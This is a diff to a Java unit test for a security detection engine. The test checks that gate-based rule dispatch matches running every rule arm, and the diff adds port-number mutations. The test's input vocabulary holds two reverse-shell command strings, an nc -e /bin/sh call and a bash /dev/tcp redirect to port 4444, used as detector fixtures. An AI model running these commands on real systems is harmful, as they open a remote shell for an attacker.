@@ -27,7 +27,8 @@ import org.junit.jupiter.api.Test;
  * Skipping arms by their gates changes nothing but the work: over every shipped rule and the 59-rule benchmark
  * pack, a detector that dispatches by gate raises exactly the alerts (rule, arm, row, in order) of one that runs
  * every arm, on the fixture incidents and on thousands of mutations of them that put gate keys in other cases,
- * in other columns, near misses of them, empty and missing values into the gated columns.
+ * in other columns, near misses of them, empty and missing values into the gated columns (integer columns:
+ * listed ports, their neighbours, other and missing ports).
  */
 class GatedDispatchMatchesRunningEveryArmTest {
     private static List<String> alerts(Detector d, List<String> sink, Event e) {
@@ -65,10 +66,13 @@ class GatedDispatchMatchesRunningEveryArmTest {
         RuleLoader loader = new RuleLoader();
         List<Rule> rules = new ArrayList<>(loader.loadBuiltin());
         rules.addAll(loader.loadReport(linux).rules());
-        assertSameAlerts(rules, 120, 200);
+        List<ArmGate> gates = assertSameAlerts(rules, 120, 200);
+        // the callback-port rule's `RemotePort in (...)` is among them (an integer gate, mutated above)
+        assertTrue(gates.stream().anyMatch(g -> g.probes().stream()
+                .anyMatch(p -> p.match() == ArmGate.Match.NUMBER && p.columnId() == Columns.REMOTE_PORT.id())));
     }
 
-    private static void assertSameAlerts(List<Rule> rules, int minGated, int minAlerts) throws Exception {
+    private static List<ArmGate> assertSameAlerts(List<Rule> rules, int minGated, int minAlerts) throws Exception {
         List<ArmGate> gates = new ArrayList<>();
         int arms = 0;
         for (Rule r : rules) {
@@ -96,10 +100,16 @@ class GatedDispatchMatchesRunningEveryArmTest {
         Set<String> vocabulary = new LinkedHashSet<>(List.of("", "node", "sh", "bash", "true", "NODE", "İ", "ı",
                 "sh -c 'nc -e /bin/sh 203.0.113.9 4444'", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
         Set<Integer> gatedColumns = new LinkedHashSet<>();
+        Set<Long> numbers = new LinkedHashSet<>(List.of(0L, 22L, 53L, 80L, 443L, 4873L));
         for (ArmGate g : gates) {
             for (ArmGate.Probe p : g.probes()) {
                 gatedColumns.add(p.columnId());
                 for (String k : p.keys()) {
+                    if (p.match() == ArmGate.Match.NUMBER) { // the integer, its neighbours
+                        long v = Long.parseLong(k);
+                        numbers.addAll(List.of(v, v - 1, v + 1));
+                        continue;
+                    }
                     vocabulary.add(k);
                     vocabulary.add(k.toUpperCase(Locale.ROOT));
                     vocabulary.add(k + "x");
@@ -127,6 +137,7 @@ class GatedDispatchMatchesRunningEveryArmTest {
             }
         }
         List<String> words = new ArrayList<>(vocabulary);
+        List<Long> ints = new ArrayList<>(numbers);
         List<Column> columns = new ArrayList<>();
         for (int id : gatedColumns) {
             columns.add(Columns.get(id));
@@ -149,7 +160,9 @@ class GatedDispatchMatchesRunningEveryArmTest {
                     for (int m = 1 + rnd.nextInt(3); m > 0; m--) {
                         Column c = columns.get(rnd.nextInt(columns.size()));
                         int pick = rnd.nextInt(10);
-                        if (pick == 0) {
+                        if (c.type().numeric()) { // an integer gate's column: a listed value, a neighbour, none
+                            e.set(c, pick == 0 ? Event.NULL : ints.get(rnd.nextInt(ints.size())));
+                        } else if (pick == 0) {
                             e.set(c, (String) null);
                         } else if (pick < 4) { // the event's own value in another case
                             String v = e.getString(c);
@@ -169,6 +182,7 @@ class GatedDispatchMatchesRunningEveryArmTest {
             }
         }
         assertTrue(alertsSeen >= minAlerts, "the comparison must include matches: " + alertsSeen + " alerts on " + events);
+        return gates;
     }
 
     /**
